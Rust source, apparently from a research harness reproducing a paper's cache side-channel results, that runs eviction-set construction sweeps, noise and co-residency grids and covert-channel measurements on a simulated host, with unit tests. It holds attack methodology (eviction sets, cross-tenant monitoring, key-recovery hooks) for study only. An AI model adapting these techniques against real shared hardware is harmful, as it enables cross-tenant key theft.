        &self.cells
    }

    /// The shared machine pool (its [`llc_machine::PoolStats`] pin the
    /// O(workers × distinct configurations) construction bound).
    pub fn pool(&self) -> &Arc<MachinePool> {
        &self.pool
    }

    /// Pool key of a cell's machine configuration. Deliberately excludes
    /// the algorithm and the cell id: cells differing only in algorithm
    /// check out the same machines.
    fn pool_key(&self, cell: &SweepCell) -> u64 {
        llc_machine::config_key(
            format!(
                "sweep|{:?}|{:?}|{:?}|{:?}|{:?}|{:x}",
                cell.spec, cell.noise, self.fidelity, self.hierarchy, cell.tenants, self.build_seed
            )
            .as_bytes(),
        )
    }

    fn build_machine(&self, cell: &SweepCell) -> Machine {
        Machine::builder(cell.spec.clone())
            .noise(cell.noise.clone())
            .noise_fidelity(self.fidelity)
            .hierarchy_options(self.hierarchy)
            .tenants(cell.tenants.clone())
            .seed(self.build_seed)
            .build()
    }
}

impl TrialSource for PruningSweep {
    /// Each worker holds the machine of the cell it is currently streaming;
    /// it goes back to the pool when the worker crosses into a cell with a
    /// different machine configuration (or when the worker retires).
    type Worker = Option<PooledMachine>;
    type Item = TrialOutcome;

    fn init(&self, _worker: usize) -> Option<PooledMachine> {
        None
    }

    fn run_trial(&self, held: &mut Option<PooledMachine>, cell: usize, ctx: TrialCtx) -> TrialOutcome {
        let cell = &self.cells[cell];
        let key = self.pool_key(cell);
        if held.as_ref().map(PooledMachine::key) != Some(key) {
            // Check the previous cell's machine back in *before* acquiring,
            // so a sibling worker can pick it up instead of building.
            *held = None;
            *held = Some(self.pool.acquire(key, || self.build_machine(cell)));
        }
        let machine = held.as_mut().expect("machine just acquired");
        machine.reset();
        machine.reseed(ctx.stream(trial_streams::NOISE));
        match self.trial_budget {
            Some(budget) => machine.arm_trial_budget(budget),
            None => machine.disarm_trial_budget(),
        }
        let mut rng = ctx.stream_rng(trial_streams::ALLOC);

        let config = if cell.filtering { EvsetConfig::filtered() } else { EvsetConfig::unfiltered() };
        let algo = cell.algorithm.instance();
        let builder = EvsetBuilder::new(algo.as_ref())
            .config(config)
            .target(TargetCache::Sf)
            .filtering(cell.filtering);
        let result = builder.build_random_set(machine, &mut rng);
        let success = match &result.eviction_set {
            Some(set) => {
                let ta = set.addresses()[0];
                oracle::is_true_eviction_set(machine, ta, set.addresses(), cell.spec.sf.ways())
            }
            None => false,
        };
        TrialOutcome {
            success,
            metrics: vec![result.total_cycles, result.backtracks as u64, result.filter_cycles],
        }
    }

    /// A trial panicked mid-run, so the held machine's state is suspect
    /// (half-applied accesses, mid-churn population). Discard it instead of
    /// returning it to the pool: the retry — and every later trial — starts
    /// from a freshly built (or cleanly pooled) machine.
    fn on_trial_panic(&self, held: &mut Option<PooledMachine>) {
        if let Some(machine) = held.take() {
            machine.discard();
        }
    }
}

/// A named preset: the campaign spec plus its trial source, ready to hand
/// to [`llc_campaign::Campaign::run`].
#[derive(Debug)]
pub struct SweepPreset {
    /// The campaign identity (cells, trials, seeds, chunking).
    pub spec: CampaignSpec,
    /// The trial source executing those cells.
    pub source: PruningSweep,
}

/// The preset names [`build_preset`] understands.
pub const PRESETS: [&str; 3] = ["table3-sweep", "noise-grid", "coresidency-grid"];

/// Builds a named campaign preset under the given run options. `--smoke`
/// pins the 4-slice host and one trial per cell (the CI golden
/// configuration); full runs use the `LLC_SLICES`-scaled host and
/// `LLC_TRIALS` trials per cell. Returns `None` for unknown names.
pub fn build_preset(name: &str, opts: &RunOpts) -> Option<SweepPreset> {
    match name {
        "table3-sweep" => Some(table3_sweep(opts)),
        "noise-grid" => Some(noise_grid(opts)),
        "coresidency-grid" => Some(coresidency_grid(opts)),
        _ => None,
    }
}

/// The hierarchy-scenario sweep: `--inclusion` × `--slice-hash` ×
/// `--replacement` over the Table 3 pruning protocol (no candidate
/// filtering, quiescent-local noise), every scenario × every Table 3
/// algorithm as one campaign. Scenarios that share a machine configuration
/// across algorithms share built machines through the pool.
fn table3_sweep(opts: &RunOpts) -> SweepPreset {
    let inclusions =
        [InclusionPolicy::NonInclusive, InclusionPolicy::Inclusive, InclusionPolicy::Exclusive];
    let slice_hashes = [SliceHashSelect::XorFold, SliceHashSelect::Modulo];
    let replacements = [None, Some(ReplacementKind::Srrip)];
    let algorithms = [Algorithm::Gt, Algorithm::GtOp, Algorithm::BinS];

    let mut cells = Vec::new();
    for inclusion in inclusions {
        for slice_hash in &slice_hashes {
            for replacement in replacements {
                // Reuse the binaries' scenario plumbing so cell specs (and
                // their report names) match what `table3 --inclusion ...`
                // would build.
                let scenario = RunOpts {
                    inclusion,
                    slice_hash: slice_hash.clone(),
                    replacement,
                    ..opts.clone()
                };
                let spec = scenario.spec();
                for algorithm in algorithms {
                    cells.push(SweepCell {
                        id: format!(
                            "{}|{}|{}|{}",
                            algorithm.name(),
                            inclusion.label(),
                            slice_hash.label(),
                            replacement.map_or("preset", ReplacementKind::label),
                        ),
                        spec: spec.clone(),
                        noise: Environment::QuiescentLocal.noise(),
                        algorithm,
                        filtering: false,
                        tenants: TenantPopulation::empty(),
                    });
                }
            }
        }
    }
    preset_from_cells("table3-sweep", 0x3a_b1e5, cells, opts)
}

/// The noise-level sweep: background access rate × algorithm over the
/// Table 3 protocol on the default hierarchy, from silent to 2× Cloud Run.
fn noise_grid(opts: &RunOpts) -> SweepPreset {
    let levels: [(u64, f64); 4] = [(0, 0.0), (29, 0.29), (1150, 11.5), (2300, 23.0)];
    let algorithms = [Algorithm::Gt, Algorithm::GtOp, Algorithm::BinS];
    let spec = opts.spec();
    let mut cells = Vec::new();
    for (tag, per_ms) in levels {
        let noise = NoiseModel::from_accesses_per_ms(
            per_ms,
            spec.freq_ghz,
            &format!("{per_ms}/ms"),
        );
        for algorithm in algorithms {
            cells.push(SweepCell {
                id: format!("{}|{}.{:02}ms", algorithm.name(), tag / 100, tag % 100),
                spec: spec.clone(),
                noise: noise.clone(),
                algorithm,
                filtering: false,
                tenants: TenantPopulation::empty(),
            });
        }
    }
    preset_from_cells("noise-grid", 0x4015_e91d, cells, opts)
}

/// The co-residency sweep: neighbour count × dwell time × workload mix,
/// reporting the attack success rate (GtOp eviction-set construction
/// verified by oracle, the Table 3 protocol) per population cell. The
/// statistical noise floor is quiescent-local so the *modelled* tenants are
/// the dominant interference; `static` cells pin the population for the
/// whole trial, `dwell` cells churn it with the paper's
/// exponential-dwell migration model.
fn coresidency_grid(opts: &RunOpts) -> SweepPreset {
    let counts = [1usize, 3];
    let dwell_ms = [0.0f64, 2.0];
    // The mixed rotation starts at batch-scan so every (mix, count) pair is
    // a distinct population (a rotation starting at idle would alias
    // `mixed|n1` onto `idle|n1`).
    let mixes: [(&str, &[WorkloadKind]); 3] = [
        ("idle", &[WorkloadKind::Idle]),
        ("bursty", &[WorkloadKind::BurstyWeb]),
        ("mixed", &[WorkloadKind::BatchScan, WorkloadKind::Idle, WorkloadKind::BurstyWeb]),
    ];
    let spec = opts.spec();
    let mut cells = Vec::new();
    for (mix_name, kinds) in mixes {
        for count in counts {
            for dwell in dwell_ms {
                let mut tenants = TenantPopulation {
                    workloads: (0..count).map(|i| kinds[i % kinds.len()]).collect(),
                    churn: None,
                };
                let dwell_label = if dwell > 0.0 {
                    tenants.churn =
                        Some(ChurnConfig { mean_dwell_cycles: dwell * spec.freq_ghz * 1e6 });
                    format!("dwell{dwell:.0}ms")
                } else {
                    "static".to_string()
                };
                cells.push(SweepCell {
                    id: format!("{mix_name}|n{count}|{dwell_label}"),
                    spec: spec.clone(),
                    noise: Environment::QuiescentLocal.noise(),
                    algorithm: Algorithm::GtOp,
                    filtering: false,
                    tenants,
                });
            }
        }
    }
    preset_from_cells("coresidency-grid", 0xc0_5e5d, cells, opts)
}

fn preset_from_cells(
    name: &str,
    master_seed: u64,
    cells: Vec<SweepCell>,
    opts: &RunOpts,
) -> SweepPreset {
    let trials_per_cell = opts.trials(1, 4) as u64;
    let spec = CampaignSpec {
        // Smoke campaigns get their own name (and so fingerprint): their
        // on-disk state must never be resumed by a full-size run.
        name: if opts.smoke { format!("{name}-smoke") } else { name.to_string() },
        master_seed,
        chunk_trials: if opts.smoke { 4 } else { 8 },
        metrics: SWEEP_METRICS.iter().map(|m| m.to_string()).collect(),
        cells: cells
            .iter()
            .map(|c| CellSpec { id: c.id.clone(), trials: trials_per_cell })
            .collect(),
    };
    let source = PruningSweep::new(cells, opts.fidelity, opts.hierarchy_options(), master_seed);
    SweepPreset { spec, source }
}

/// Renders the consolidated campaign report. Pure function of the campaign
/// identity, its final aggregates and its quarantine list — chunk
/// scheduling, thread count and resume history cannot appear in it, which
/// is what lets CI diff the output of a killed-and-resumed campaign
/// against the uninterrupted golden byte for byte. A campaign with no
/// quarantined trials renders exactly as it did before quarantine existed,
/// so fault-free goldens are stable.
pub fn render_report(
    spec: &CampaignSpec,
    cells: &[SweepCell],
    aggregates: &[CellAggregate],
    quarantined: &[QuarantineRecord],
) -> String {
    use std::fmt::Write as _;
    assert_eq!(cells.len(), aggregates.len(), "one aggregate per cell");
    let total: u64 = aggregates.iter().map(|a| a.trials).sum();
    let mut out = String::new();
    let _ = writeln!(out, "Campaign '{}' — {} cells, {} trials", spec.name, cells.len(), total);
    let _ = writeln!(
        out,
        "{:<34} {:>7} {:>8} {:>10} {:>10} {:>11} {:>9}",
        "Cell", "Trials", "Succ.", "Avg (ms)", "Max (ms)", "Backtracks", "Filter%"
    );
    for (cell, agg) in cells.iter().zip(aggregates) {
        let to_ms = |cycles: f64| crate::cycles_to_ms(cycles, cell.spec.freq_ghz);
        let cycles = &agg.metrics[0];
        let backtracks = &agg.metrics[1];
        let filter: u128 = agg.metrics[2].sum;
        let filter_share = if cycles.sum > 0 { filter as f64 / cycles.sum as f64 } else { 0.0 };
        let _ = writeln!(
            out,
            "{:<34} {:>7} {:>8} {:>10.2} {:>10.2} {:>11.2} {:>9}",
            cell.id,
            agg.trials,
            crate::pct(agg.success_rate().unwrap_or(0.0)),
            to_ms(cycles.mean().unwrap_or(0.0)),
            to_ms(cycles.max as f64),
            backtracks.mean().unwrap_or(0.0),
            crate::pct(filter_share),
        );
    }
    if !quarantined.is_empty() {
        let _ = writeln!(out);
        let _ = writeln!(out, "QUARANTINED ({} trials)", quarantined.len());
        for q in quarantined {
            let _ = writeln!(
                out,
                "  {} trial {} after {} attempts: {}",
                cells[q.cell].id, q.trial, q.attempts, q.reason
            );
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn presets_build_and_share_pool_keys_across_algorithms() {
        let opts = RunOpts::smoke_with_threads(1);
        let preset = build_preset("table3-sweep", &opts).expect("known preset");
        // 3 inclusion × 2 slice hash × 2 replacement × 3 algorithms.
        assert_eq!(preset.source.cells().len(), 36);
        assert_eq!(preset.spec.cells.len(), 36);
        assert!(preset.spec.name.ends_with("-smoke"));
        // Cells differing only in algorithm share a machine configuration:
        // 36 cells collapse onto 12 distinct pool keys.
        let keys: std::collections::HashSet<u64> =
            preset.source.cells().iter().map(|c| preset.source.pool_key(c)).collect();
        assert_eq!(keys.len(), 12);
        assert!(build_preset("no-such-preset", &opts).is_none());
    }

    #[test]
    fn noise_grid_varies_noise_not_geometry() {
        let opts = RunOpts::smoke_with_threads(1);
        let preset = build_preset("noise-grid", &opts).expect("known preset");
        assert_eq!(preset.source.cells().len(), 12);
        let keys: std::collections::HashSet<u64> =
            preset.source.cells().iter().map(|c| preset.source.pool_key(c)).collect();
        // 4 noise levels → 4 machine configurations.
        assert_eq!(keys.len(), 4);
        let specs: std::collections::HashSet<&str> =
            preset.source.cells().iter().map(|c| c.spec.name.as_str()).collect();
        assert_eq!(specs.len(), 1, "geometry is fixed; only noise varies");
    }

    #[test]
    fn coresidency_grid_varies_population_not_geometry() {
        let opts = RunOpts::smoke_with_threads(1);
        let preset = build_preset("coresidency-grid", &opts).expect("known preset");
        // 3 mixes × 2 neighbour counts × 2 dwell settings.
        assert_eq!(preset.source.cells().len(), 12);
        for cell in preset.source.cells() {
            assert!(!cell.tenants.is_empty(), "every cell hosts neighbours: {}", cell.id);
            assert_eq!(
                cell.id.ends_with("static"),
                cell.tenants.churn.is_none(),
                "churn setting must match the cell id: {}",
                cell.id
            );
        }
        // Every population is a distinct machine configuration (the pool key
        // hashes the tenant population), but geometry and noise are fixed.
        let keys: std::collections::HashSet<u64> =
            preset.source.cells().iter().map(|c| preset.source.pool_key(c)).collect();
        assert_eq!(keys.len(), 12);
        let specs: std::collections::HashSet<&str> =
            preset.source.cells().iter().map(|c| c.spec.name.as_str()).collect();
        assert_eq!(specs.len(), 1, "geometry is fixed; only the population varies");
    }

    #[test]
    fn report_rendering_is_a_pure_function_of_aggregates() {
        let opts = RunOpts::smoke_with_threads(1);
        let preset = build_preset("noise-grid", &opts).expect("known preset");
        let aggregates: Vec<CellAggregate> = preset
            .spec
            .cells
            .iter()
            .map(|_| {
                let mut agg = CellAggregate::empty(SWEEP_METRICS.len());
                agg.record(&TrialOutcome { success: true, metrics: vec![2_000_000, 3, 500_000] });
                agg
            })
            .collect();
        let a = render_report(&preset.spec, preset.source.cells(), &aggregates, &[]);
        let b = render_report(&preset.spec, preset.source.cells(), &aggregates, &[]);
        assert_eq!(a, b);
        assert!(a.contains("12 cells, 12 trials"), "{a}");
        assert!(a.contains("100.0%"), "{a}");
        assert!(!a.contains("QUARANTINED"), "fault-free reports carry no quarantine section");

        let quarantined = vec![QuarantineRecord {
            cell: 0,
            trial: 3,
            attempts: 3,
            reason: "trial budget exhausted: 1000 virtual cycles".to_string(),
        }];
        let q = render_report(&preset.spec, preset.source.cells(), &aggregates, &quarantined);
        assert!(q.starts_with(&a), "quarantine section strictly appends");
        assert!(q.contains("QUARANTINED (1 trials)"), "{q}");
        assert!(q.contains("trial 3 after 3 attempts: trial budget exhausted"), "{q}");
    }

    #[test]
    fn trial_budget_panics_deterministically_and_discards_the_machine() {
        let opts = RunOpts::smoke_with_threads(1);
        let preset = build_preset("noise-grid", &opts).expect("known preset");
        // A budget far below any real trial cost: the first timed access
        // blows it. Two attempts must produce the identical panic message
        // (that message becomes the stable quarantine reason).
        let source = preset.source.with_trial_budget(Some(1));
        let ctx = llc_fleet::TrialCtx::derive(0x5eed, 0, 4);
        let mut messages = Vec::new();
        for _ in 0..2 {
            let mut held = source.init(0);
            let caught = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                source.run_trial(&mut held, 0, ctx);
            }))
            .expect_err("a 1-cycle budget cannot complete a trial");
            source.on_trial_panic(&mut held);
            assert!(held.is_none(), "panicked trial's machine must be discarded");
            messages.push(llc_fleet::panic_message(caught.as_ref()));
        }
        assert_eq!(messages[0], messages[1]);
        assert_eq!(messages[0], "trial budget exhausted: 1 virtual cycles");
        assert!(source.pool().stats().discards >= 2, "discards must hit the pool counter");
    }
}
