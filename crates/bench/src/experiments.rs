//! Measurement routines behind every table and figure reproduction.
//!
//! Each function runs the corresponding experiment on a simulated host and
//! returns plain data; the binaries under `src/bin/` format that data as the
//! paper's tables, and `EXPERIMENTS.md` records paper-vs-measured values.

use crate::SampleStats;
use llc_core::{
    decode_bits, decode_bits_soft, score_extraction, Algorithm, AttackConfig, AttackReport,
    BoundaryClassifier, ClassifierTrainingConfig, EndToEndAttack, ExtractionConfig, FeatureConfig,
    RecoveryConfig, ScanConfig, TraceClassifier,
};
use llc_ecdsa_victim::{EcdsaVictim, EcdsaVictimConfig, Scalar};
use llc_evsets::{
    oracle, test_eviction, CandidateSet, EvictionSet, EvsetBuilder,
    EvsetConfig, TargetCache, TraversalOrder,
};
use llc_fleet::{stream_seed, Aggregate, Counts, Fleet, Samples};
use llc_machine::{Machine, NoiseFidelity, NoiseModel, TenantPopulation};
use llc_probe::{
    run_covert_channel, AccessTrace, CovertChannelConfig, Monitor, MonitorStats, Strategy,
};
use llc_recovery::{attempt_signature, CampaignConfig, SearchConfig, SignatureObservation};
use llc_sigproc::{welch_psd, BinnedTrace, PowerSpectrum, WelchConfig};
use llc_cache_model::{CacheSpec, HierarchyOptions, VirtAddr};
use llc_machine::{AesTTableConfig, AesTTableVictim};
use rand::rngs::StdRng;
use rand::SeedableRng;

/// RNG stream tags for the experiment harnesses (see
/// [`llc_fleet::stream_seed`]): one tag per independent purpose, derived
/// either from the experiment's master seed (machine construction, shared
/// pools) or from a per-trial seed (noise/jitter, candidate allocation,
/// victim key material).
pub mod trial_streams {
    /// Warm base-machine construction (paging, initial noise bookkeeping).
    pub const MACHINE: u64 = u64::from_le_bytes(*b"xmachine");
    /// Per-trial machine noise/jitter stream (applied via `Machine::reseed`).
    pub const NOISE: u64 = u64::from_le_bytes(*b"noise\0\0\0");
    /// Per-trial candidate-allocation RNG.
    pub const ALLOC: u64 = u64::from_le_bytes(*b"alloc\0\0\0");
    /// Per-trial victim configuration (ECDSA key/nonce material).
    pub const VICTIM: u64 = u64::from_le_bytes(*b"victim\0\0");
    /// Boundary-classifier training signing of the key-recovery campaign.
    pub const TRAIN: u64 = u64::from_le_bytes(*b"train\0\0\0");
}

/// Which environment an experiment models (the paper's two setups).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Environment {
    /// Quiescent local machine (0.29 background accesses/ms/set).
    QuiescentLocal,
    /// Google Cloud Run (11.5 background accesses/ms/set).
    CloudRun,
}

impl Environment {
    /// The two environments in table order.
    pub fn all() -> [Environment; 2] {
        [Environment::QuiescentLocal, Environment::CloudRun]
    }

    /// The noise model of this environment.
    pub fn noise(&self) -> NoiseModel {
        match self {
            Environment::QuiescentLocal => NoiseModel::quiescent_local(),
            Environment::CloudRun => NoiseModel::cloud_run(),
        }
    }

    /// Human-readable label.
    pub fn label(&self) -> &'static str {
        match self {
            Environment::QuiescentLocal => "Quiescent Local",
            Environment::CloudRun => "Cloud Run",
        }
    }
}

// ---------------------------------------------------------------------------
// Tables 3 & 4: eviction-set construction effectiveness
// ---------------------------------------------------------------------------

/// Result of repeatedly constructing single eviction sets with one algorithm.
#[derive(Debug, Clone, PartialEq)]
pub struct PruningStats {
    /// Algorithm name (paper nomenclature).
    pub algorithm: &'static str,
    /// Environment label.
    pub environment: &'static str,
    /// Fraction of trials that produced a *correct* eviction set
    /// (oracle-validated, like the paper's instrumented checks).
    pub success_rate: f64,
    /// Statistics over the per-trial construction time in milliseconds.
    pub time_ms: SampleStats,
    /// Mean candidate-filtering share of the construction time (0 when
    /// filtering is disabled).
    pub filter_share: f64,
    /// Mean number of backtracks per successful construction.
    pub mean_backtracks: f64,
}

/// One trial's outcome of the `SingleSet` measurement.
#[derive(Debug, Clone, Copy)]
struct SingleSetTrial {
    time_ms: f64,
    /// Oracle-validated success.
    success: bool,
    /// `Some` when a set was built (whether or not it validated).
    built: Option<BuiltSetStats>,
}

#[derive(Debug, Clone, Copy)]
struct BuiltSetStats {
    filter_share: f64,
    backtracks: u64,
}

/// Order-independent reduction of [`SingleSetTrial`]s (tentpole aggregate:
/// bit-identical for any thread count / sharding).
#[derive(Debug, Clone, Default)]
struct SingleSetAgg {
    times: Samples,
    successes: Counts,
    filter_share: Samples,
    backtracks: Samples,
}

impl Aggregate for SingleSetAgg {
    type Item = SingleSetTrial;

    fn empty() -> Self {
        Self::default()
    }

    fn record(&mut self, trial: u64, item: SingleSetTrial) {
        self.times.record(trial, item.time_ms);
        self.successes.record(trial, item.success);
        // Filter-share and backtrack statistics are defined per *successful*
        // (oracle-validated) construction, matching the paper's accounting
        // and the `PruningStats` field docs.
        if let (true, Some(built)) = (item.success, item.built) {
            self.filter_share.record(trial, built.filter_share);
            self.backtracks.record(trial, built.backtracks as f64);
        }
    }

    fn merge(&mut self, other: Self) {
        self.times.merge(other.times);
        self.successes.merge(other.successes);
        self.filter_share.merge(other.filter_share);
        self.backtracks.merge(other.backtracks);
    }
}

/// Runs the Table 3 / Table 4 `SingleSet` measurement for one algorithm.
///
/// `filtering` selects between Table 3 (false: raw candidate sets, 1 s
/// budget) and Table 4 (true: L2-driven candidate filtering, 100 ms budget).
///
/// Trials are sharded across `fleet`'s workers: one warmed machine is built
/// and snapshotted up front, every worker materialises a private copy, and
/// each trial rewinds it (`reset_to`) and reseeds the noise/jitter and
/// candidate-allocation streams from its derived per-trial seed. The
/// returned statistics are bit-identical for every thread count.
///
/// With `trials == 1` (the criterion benches' configuration) the
/// snapshot/worker-clone detour is skipped and trial 0 runs directly on the
/// freshly built machine: the snapshot, its materialisation and the no-op
/// rewind tripled the measured machine-acquisition cost without changing a
/// single simulated cycle. The output is byte-identical either way (trial 0
/// derives the same seeds and sees the same machine state).
///
/// `fidelity` selects the background-noise model fidelity
/// ([`NoiseFidelity::Exact`] reproduces the per-event reference byte for
/// byte; [`NoiseFidelity::Aggregate`] applies one bulk state transition per
/// catch-up window — statistically equivalent, far cheaper under Cloud Run
/// noise).
#[allow(clippy::too_many_arguments)] // one knob per experiment axis; callers name each cell
pub fn measure_single_set(
    spec: &CacheSpec,
    environment: Environment,
    fidelity: NoiseFidelity,
    hierarchy: HierarchyOptions,
    algorithm: Algorithm,
    filtering: bool,
    trials: usize,
    seed: u64,
    fleet: &Fleet,
) -> PruningStats {
    measure_single_set_impl(
        spec,
        environment,
        fidelity,
        hierarchy,
        algorithm,
        filtering,
        trials,
        seed,
        fleet,
        None,
    )
}

/// [`measure_single_set`] with machine acquisition routed through a shared
/// [`MachinePool`](llc_machine::MachinePool): instead of building one base machine per cell and
/// materialising one copy per worker, workers check machines out of `pool`
/// keyed by the full machine configuration *including the build seed* — so
/// the pooled run rewinds to the byte-identical snapshot the unpooled run
/// would have built, and cells that share a machine configuration (every
/// algorithm of a table row, for instance) share built machines instead of
/// rebuilding per cell. Output is byte-identical to [`measure_single_set`]
/// (pinned by the golden smoke tests, which run the multi-threaded reports
/// through the pool, and by an explicit equality test).
#[allow(clippy::too_many_arguments)] // same knobs, plus the pool
pub fn measure_single_set_pooled(
    spec: &CacheSpec,
    environment: Environment,
    fidelity: NoiseFidelity,
    hierarchy: HierarchyOptions,
    algorithm: Algorithm,
    filtering: bool,
    trials: usize,
    seed: u64,
    fleet: &Fleet,
    pool: &std::sync::Arc<llc_machine::MachinePool>,
) -> PruningStats {
    measure_single_set_impl(
        spec,
        environment,
        fidelity,
        hierarchy,
        algorithm,
        filtering,
        trials,
        seed,
        fleet,
        Some(pool),
    )
}

/// Pool key of a single-set measurement's machine configuration. The build
/// seed participates so a pooled machine's pristine snapshot is *exactly*
/// the snapshot the unpooled path would capture — byte-identity holds even
/// for stochastic replacement policies whose per-set RNGs are seeded at
/// build time.
pub fn single_set_pool_key(
    spec: &CacheSpec,
    environment: Environment,
    fidelity: NoiseFidelity,
    hierarchy: &HierarchyOptions,
    build_seed: u64,
) -> u64 {
    llc_machine::config_key(
        format!("single_set|{spec:?}|{environment:?}|{fidelity:?}|{hierarchy:?}|{build_seed:x}")
            .as_bytes(),
    )
}

#[allow(clippy::too_many_arguments)]
fn measure_single_set_impl(
    spec: &CacheSpec,
    environment: Environment,
    fidelity: NoiseFidelity,
    hierarchy: HierarchyOptions,
    algorithm: Algorithm,
    filtering: bool,
    trials: usize,
    seed: u64,
    fleet: &Fleet,
    pool: Option<&std::sync::Arc<llc_machine::MachinePool>>,
) -> PruningStats {
    let config = if filtering { EvsetConfig::filtered() } else { EvsetConfig::unfiltered() };
    let build_seed = stream_seed(seed, trial_streams::MACHINE);
    let build_base = || {
        Machine::builder(spec.clone())
            .noise(environment.noise())
            .noise_fidelity(fidelity)
            .hierarchy_options(hierarchy)
            .seed(build_seed)
            .build()
    };

    let run_trial = |machine: &mut Machine, ctx: &llc_fleet::TrialCtx| -> SingleSetTrial {
        machine.reseed(ctx.stream(trial_streams::NOISE));
        let mut rng = ctx.stream_rng(trial_streams::ALLOC);
        let algo = algorithm.instance();
        let builder = EvsetBuilder::new(algo.as_ref())
            .config(config.clone())
            .target(TargetCache::Sf)
            .filtering(filtering);
        let result = builder.build_random_set(machine, &mut rng);
        let time_ms = crate::cycles_to_ms(result.total_cycles as f64, spec.freq_ghz);
        match &result.eviction_set {
            Some(set) => {
                // Validate against ground truth: every member must map to
                // the same SF set (the paper validates with its
                // instrumented victim).
                let ta = set.addresses()[0];
                let success =
                    oracle::is_true_eviction_set(machine, ta, set.addresses(), spec.sf.ways());
                let filter_share = if result.total_cycles > 0 {
                    result.filter_cycles as f64 / result.total_cycles as f64
                } else {
                    0.0
                };
                SingleSetTrial {
                    time_ms,
                    success,
                    built: Some(BuiltSetStats { filter_share, backtracks: result.backtracks as u64 }),
                }
            }
            None => SingleSetTrial { time_ms, success: false, built: None },
        }
    };

    let agg: SingleSetAgg = match pool {
        // Pooled: check out (possibly previously built) machines keyed by
        // the full configuration + build seed; `reset()` rewinds to the
        // byte-identical pristine snapshot the unpooled path snapshots.
        Some(pool) if trials == 1 => {
            let mut machine = pool.acquire(
                single_set_pool_key(spec, environment, fidelity, &hierarchy, build_seed),
                build_base,
            );
            machine.reset();
            let ctx = llc_fleet::TrialCtx::derive(seed, 0, 1);
            let mut agg = SingleSetAgg::empty();
            agg.record(0, run_trial(&mut machine, &ctx));
            agg
        }
        Some(pool) => {
            let key = single_set_pool_key(spec, environment, fidelity, &hierarchy, build_seed);
            fleet.run_fold_with(
                trials,
                seed,
                |_worker| pool.acquire(key, build_base),
                |machine, ctx| {
                    machine.reset();
                    run_trial(machine, &ctx)
                },
            )
        }
        None if trials == 1 => {
            let mut machine = build_base();
            let ctx = llc_fleet::TrialCtx::derive(seed, 0, 1);
            let mut agg = SingleSetAgg::empty();
            agg.record(0, run_trial(&mut machine, &ctx));
            agg
        }
        None => {
            let snapshot = build_base().snapshot();
            fleet.run_fold_with(
                trials,
                seed,
                |_worker| snapshot.to_machine(),
                |machine, ctx| {
                    machine.reset_to(&snapshot);
                    run_trial(machine, &ctx)
                },
            )
        }
    };

    let filter = agg.filter_share.summary();
    let backtracks = agg.backtracks.summary();
    PruningStats {
        algorithm: algorithm.name(),
        environment: environment.label(),
        success_rate: agg.successes.rate(),
        time_ms: SampleStats::from_summary(agg.times.summary()),
        filter_share: filter.mean,
        mean_backtracks: backtracks.mean,
    }
}

/// Extrapolated bulk-construction estimate for the `PageOffset` / `WholeSys`
/// scenarios, using the paper's estimator `n_sets * t_avg / SR` on top of a
/// sampled per-set measurement (Section 4.2).
#[derive(Debug, Clone)]
pub struct BulkEstimate {
    /// Algorithm name.
    pub algorithm: &'static str,
    /// Environment label.
    pub environment: &'static str,
    /// Number of eviction sets the scenario requires.
    pub required_sets: usize,
    /// Number of sets actually constructed in the sample.
    pub sampled_sets: usize,
    /// Success rate over the sample.
    pub success_rate: f64,
    /// Measured time for the sample, in seconds.
    pub sampled_seconds: f64,
    /// Extrapolated time to cover the full scenario, in seconds.
    pub estimated_total_seconds: f64,
}

/// Measures bulk construction for `scope` by building `sample_sets` eviction
/// sets and extrapolating to the scenario's full set count.
pub fn measure_bulk(
    spec: &CacheSpec,
    environment: Environment,
    algorithm: Algorithm,
    scope: llc_evsets::Scope,
    sample_sets: usize,
    seed: u64,
) -> BulkEstimate {
    let algo = algorithm.instance();
    let mut machine =
        Machine::builder(spec.clone()).noise(environment.noise()).seed(seed).build();
    let mut rng = StdRng::seed_from_u64(seed ^ 0xb011);
    let bulk_cfg = llc_evsets::BulkConfig {
        max_sets: Some(sample_sets),
        ..llc_evsets::BulkConfig::default()
    };
    let builder = llc_evsets::BulkBuilder::new(algo.as_ref(), bulk_cfg);
    let outcome = builder.run(&mut machine, scope, &mut rng).expect("bulk construction starts");

    let required = scope.required_sets(spec);
    let sampled_seconds = outcome.total_cycles as f64 / (spec.freq_ghz * 1e9);
    let per_set_seconds = if outcome.attempted > 0 {
        (outcome.total_cycles - outcome.filter_cycles) as f64
            / outcome.attempted as f64
            / (spec.freq_ghz * 1e9)
    } else {
        0.0
    };
    let success_rate = outcome.success_rate().max(1e-3);
    let filter_seconds = outcome.filter_cycles as f64 / (spec.freq_ghz * 1e9);
    let estimated_total_seconds = filter_seconds + required as f64 * per_set_seconds / success_rate;

    BulkEstimate {
        algorithm: algorithm.name(),
        environment: environment.label(),
        required_sets: required,
        sampled_sets: outcome.successes,
        success_rate: outcome.success_rate(),
        sampled_seconds,
        estimated_total_seconds,
    }
}

// ---------------------------------------------------------------------------
// Table 5 & Figure 6: monitoring strategies
// ---------------------------------------------------------------------------

/// One row of Table 5 / one point of Figure 6.
#[derive(Debug, Clone)]
pub struct MonitoringPoint {
    /// Strategy name.
    pub strategy: Strategy,
    /// Sender access interval (cycles).
    pub access_interval: u64,
    /// Detection rate within the 500-cycle error bound.
    pub detection_rate: f64,
    /// Prime/probe latency statistics.
    pub stats: MonitorStats,
}

/// Runs the covert-channel experiment (Figure 6 / Table 5) for one strategy
/// and access interval.
pub fn measure_monitoring(
    spec: &CacheSpec,
    environment: Environment,
    strategy: Strategy,
    access_interval: u64,
    sender_accesses: usize,
    seed: u64,
) -> MonitoringPoint {
    let config = CovertChannelConfig {
        spec: spec.clone(),
        noise: environment.noise(),
        access_interval,
        sender_accesses,
        seed,
        ..CovertChannelConfig::default()
    };
    let result = run_covert_channel(&config, strategy);
    MonitoringPoint {
        strategy,
        access_interval,
        detection_rate: result.detection_rate,
        stats: result.stats,
    }
}

// ---------------------------------------------------------------------------
// Figure 2: background access CDF
// ---------------------------------------------------------------------------

/// Observed background-access behaviour of one environment (Figure 2).
#[derive(Debug, Clone)]
pub struct NoiseCdf {
    /// Environment label.
    pub environment: &'static str,
    /// Sorted inter-access intervals in microseconds.
    pub intervals_us: Vec<f64>,
    /// Mean accesses per millisecond per set.
    pub accesses_per_ms: f64,
}

impl NoiseCdf {
    /// Fraction of intervals at or below `threshold_us`.
    pub fn cdf_at(&self, threshold_us: f64) -> f64 {
        if self.intervals_us.is_empty() {
            return 0.0;
        }
